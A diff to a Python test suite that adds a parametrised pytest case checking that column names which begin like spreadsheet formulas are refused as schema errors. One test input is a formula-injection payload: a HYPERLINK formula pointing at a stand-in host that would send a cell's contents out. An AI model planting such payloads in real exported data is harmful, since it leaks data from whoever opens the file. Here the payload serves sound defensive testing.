@@ -233,6 +233,16 @@ def test_a_field_name_with_a_control_character_is_a_schema_error(make_root: Make
     assert finding.check == "schema-error" and "control or invisible characters" in finding.message
 
 
+@pytest.mark.parametrize("name", ['=HYPERLINK("http://example.invalid/?"&A2,"click")', "+1", "-x", "@SUM(A1)"])
+def test_a_field_name_that_begins_like_a_formula_is_a_schema_error(make_root: MakeRoot, name: str) -> None:
+    """The header is a row a spreadsheet opens too: the zip's CSVs and `claims sql --format csv`
+    carried such a name as it was, past the formula rule of every cell."""
+    root = make_root()
+    _add_column(root, "relations", name)
+    [finding] = _refused_by_check_and_build(root) and check(root)
+    assert finding.check == "schema-error" and "may not begin like a spreadsheet formula" in finding.message
+
+
 @pytest.mark.parametrize(
     "value", [{"unique": "no"}, {"required": "yes"}, {"minimum": "5"}, {"maxLength": 1e2}, {"minimum": True}]
 )
